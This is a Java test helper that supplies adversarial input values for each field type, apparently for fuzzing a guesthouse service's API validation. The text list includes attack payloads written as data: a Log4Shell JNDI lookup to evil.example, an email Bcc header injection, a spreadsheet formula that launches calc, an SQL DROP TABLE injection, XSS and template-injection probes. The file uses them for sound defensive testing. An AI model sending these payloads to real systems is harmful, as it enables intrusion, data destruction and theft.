package dev.guesthouse.hostile;

import java.lang.reflect.ParameterizedType;
import java.lang.reflect.Type;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;

import com.fasterxml.jackson.databind.util.RawValue;

import dev.guesthouse.test.JsonBody;

/** Values that nobody sends by accident, for each type of field. */
final class Oddities {

    /** What no field takes, whatever its type. */
    private static final List<Object> ANY = both(List.of("", " ", "\u0000", "x", true, false, 0, -1, 1.5, List.of(), Map.of(), List.of(List.of()),
            Map.of("", ""), Map.of("x", 1), raw("1e400"), raw("-0"), raw("NaN"), raw("9223372036854775808"), raw("0.1e-999999"),
            raw("1" + "0".repeat(900)), raw("[".repeat(900) + "]".repeat(900)), raw("{\"a\":".repeat(400) + "1" + "}".repeat(400)),
            raw("[".repeat(10_000) + "]".repeat(10_000)), raw("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000)), raw("{\"a\":1,\"a\":2}"),
            "x".repeat(1_000_000), "é".repeat(400_000)));

    private static final List<Object> TEXTS = List.of("a\u0000b", "\ud800", "\udc00\ud800", "a\ud83dz", "\ud83d\ude00",
            "\ud83c\uddfa\ud83c\uddf3 \ud83d\udc69\u200d\ud83d\ude80", "\u202etxt.exe", "\u05d0\u05d1 \u0627\u0644", "e\u0301\u0327".repeat(30),
            "a" + "\u0300".repeat(100), "\u200b", "\u200bzero\u200dwidth\ufeff", "\ufeff", "\uffff", "\ufffd", "\u0085\u2028\u2029", "\u00a0", "\r\n",
            "a\r\nBcc: eve@evil.example", "a\tb", "\u001b[31m", "\u0007", "=cmd|' /C calc'!A0", "'; DROP TABLE person; --", "%", "_", "\\", "\\%",
            "%s%n%d", "${jndi:ldap://evil.example/a}", "#{7*7}", "{{7*7}}", "<script>alert(1)</script>", "&amp;lt;", "https://evil.example/?a=b",
            "evil.example", "\ud835\udd6c\ud835\udd7f", "ﬀ", "ß", "ſ", "İ", "ı", "K", "\uff21\uff22", "null", "undefined", "NaN", "true", "-1", "1e3",
            "x".repeat(119), "x".repeat(120), "x".repeat(121), "\ud83d\ude00".repeat(120), "x ".repeat(2_000), "x".repeat(4_000), "x".repeat(4_001),
            "[", "(a+)+$", "(a|a)*b", "a{1000}", "(a{1,1000}){1,1000}", "((a{100}){100}){100}", "(?=a)", "(.)\\1", "\\p{L}+", "[^\\x00-\\x{10FFFF}]",
            "(".repeat(1_000) + ")".repeat(1_000), "\\", "*", "(?i)x", "^.*$", "\\C", "\\Q", "@", "a@", "@b.example", "a@b", "a@b@c.example",
            "\"a b\"@c.example", "a@xn--.example", "a@xn--zzzzzzzz99999.example", "a@ü.example", "ü@c.example", "a@[127.0.0.1]", "a@.example",
            "a@c..example", "a@" + "c".repeat(64) + ".example", "a@" + "c.".repeat(130) + "example", "a".repeat(65) + "@c.example", "a@c.example.",
            "A@C.EXAMPLE", "a@co.uk", "a@gmail.com", "a@home.example", "a@\u212aelvin.example", "a+b@c.example", "a'b@c.example", "a\\@c.example",
            "a,b@c.example", "a;b@c.example", "<a@c.example>", "com", "localhost", "127.0.0.1", "::1", "b\u00fccher.example", "xn--bcher-kva.example",
            "a_b.example", "-a.example", "c." + "d.".repeat(120) + "example", "a\u3002example", "any", "allow", "member", "deliver", "send-code",
            "approve-request", "local", "00000000-0000-7000-8000-000000000001", "/p/x", "http://guesthouse.test/p/", "/d/%00", "////");

    private static final List<Object> IDS = List.of(new UUID(0, 0), new UUID(-1, -1), "01890A5D-AC96-774B-BCCE-B302099A8057", "1-1-1-1-1",
            "01890a5dac96774bbcceb302099a8057", "{01890a5d-ac96-774b-bcce-b302099a8057}", "urn:uuid:01890a5d-ac96-774b-bcce-b302099a8057",
            "01890a5d-ac96-774b-bcce-b302099a805", "01890a5d-ac96-774b-bcce-b302099a80577", "g1890a5d-ac96-774b-bcce-b302099a8057",
            "AAAAAAAAAAAAAAAAAAAAAA==", "AYkKXayWd0u8zrMCCZqAVw", " 01890a5d-ac96-774b-bcce-b302099a8057", "-----");

    private static final List<Object> TIMES = List.of("2026-12-01", "2026-12-01T09:00:00", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z",
            "0001-01-01T00:00:00+18:00", "-0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999999Z", "9999-12-31T23:59:59Z",
            "9999-12-31T23:59:59-18:00", "+10000-01-01T00:00:00Z", "+294277-01-01T00:00:00Z", "+1000000000-12-31T23:59:59.999999999Z",
            "-1000000000-01-01T00:00:00Z", "2026-12-31T23:59:60Z", "2026-02-29T00:00:00Z", "2026-12-01T24:00:00Z", "2026-12-01T25:00:00Z",
            "2026-12-01T09:00:00.000001Z", "2026-12-01T09:00:00.0000009Z", "2026-12-01T09:00:00.000002Z", "2026-12-01T10:00:00+99:00",
            "2026-12-01T10:00:00+18:00", "2027-01-01T00:00:00z", "2027-01-01T00:00:00[Europe/Berlin]", "2027-01-01T00:00:00+01:00[Europe/Berlin]",
            1_800_000_000, 1_800_000_000_000L, "1800000000", "now", "infinity", "epoch", "1970-01-01T00:00:00Z", "2037-12-31T00:00:00Z",
            "2262-04-12T00:00:00Z");

    private static final List<Object> DURATIONS = List.of("P0D", "P-1D", "-P1D", "P1M", "P1Y", "P1W", "PT1S", "PT59M", "PT0.5H", "P1DT1H", "PT1H",
            "PT24H", "P3660D", "P3661D", "PT87840H", "PT87841H", "P999999D", "P999999999D", "P99999999999999999999D", "PT999999H",
            "PT9223372036854775807S", "p1d", "P", "PT", "P1DT", "+P1D", "P1D ", "P٣D", "P01D", 86_400, "P90D", "P91D", "P13D", "P14D");

    private static final List<Object> NUMBERS = List.of(0, 1, -1, 200, 201, 1_000, 1_001, Integer.MAX_VALUE, Integer.MIN_VALUE, 2_147_483_648L,
            Long.MAX_VALUE, Long.MIN_VALUE, 1.0, 1.5, raw("1e2"), raw("1E400"), raw("01"), raw("+1"), raw(".5"), raw("0x10"), raw("-0"), raw("-0.0"),
            raw("Infinity"), "1", "١", " 1 ", "1_000", true);

    private static final List<Object> TRUTHS = List.of("true", "TRUE", "yes", "on", 1, 0, "", raw("True"), raw("tru"));

    private Oddities() {
    }

    /** Values for a field of a type, the telling ones first among them. */
    static List<Object> of(Type type) {
        if (type == String.class) {
            return TEXTS;
        }
        if (type == UUID.class) {
            return IDS;
        }
        if (type == Instant.class) {
            return TIMES;
        }
        if (type == Duration.class) {
            return DURATIONS;
        }
        if (type == Integer.class) {
            return NUMBERS;
        }
        if (type == Boolean.class) {
            return TRUTHS;
        }
        if (type instanceof Class<?> raw && raw.isEnum()) {
            var constants = new ArrayList<Object>(List.of("", "NONE", 0, "0", raw.getEnumConstants()[0].toString().toUpperCase(Locale.ROOT)));
            Collections.addAll(constants, raw.getEnumConstants());
            return constants;
        }
        if (type instanceof ParameterizedType) {
            return LISTS;
        }
        return PEOPLE;
    }

    /** Values for a field of whatever type. */
    static List<Object> any() {
        return ANY;
    }

    private static final List<Object> LISTS = both(List.of(Collections.nCopies(100_000, 1), Collections.nCopies(2_000, "x@fabrikam.example"),
            Collections.nCopies(20_000, Map.of()), Collections.nCopies(100, ""),
            List.of(Map.of("domain", "a.example"), Map.of("domain", "A.example")), Map.of("en", "x", "de", "\ud83d\ude00", "xx-YY-zz", "y"),
            Map.of("", "x"), Map.of("EN", "x"), Map.of("en", ""), Map.of("x".repeat(300), "y"), List.of("a", "a"),
            Collections.nCopies(51, Map.of("value", "x")), Collections.nCopies(21, Map.of("text", Map.of("en", "?"), "kind", "text"))));

    private static final List<Object> PEOPLE = List.of("nobody@fabrikam.example", "01890a5d-ac96-774b-bcce-b302099a8057",
            Map.of("email", "nobody@fabrikam.example"), Map.of("id", new UUID(0, 0)), Map.of("email", "omar@home.example", "id", new UUID(0, 0)),
            Map.of("email", "a\u0000@fabrikam.example"), Map.of("email", "MIA@HOME.EXAMPLE"), Map.of("id", "1-1-1-1-1"), Map.of("mail", "x"),
            "x".repeat(36), Map.of("email", "x".repeat(5_000) + "@fabrikam.example"));

    private static RawValue raw(String json) {
        return new RawValue(json);
    }

    /** The same with null, which {@code List.of} does not hold, and lists of null. */
    private static List<Object> both(List<?> values) {
        var all = new ArrayList<Object>(values);
        all.add(null);
        all.add(Collections.singletonList(null));
        all.add(JsonBody.of("email", null));
        return Collections.unmodifiableList(all);
    }
}
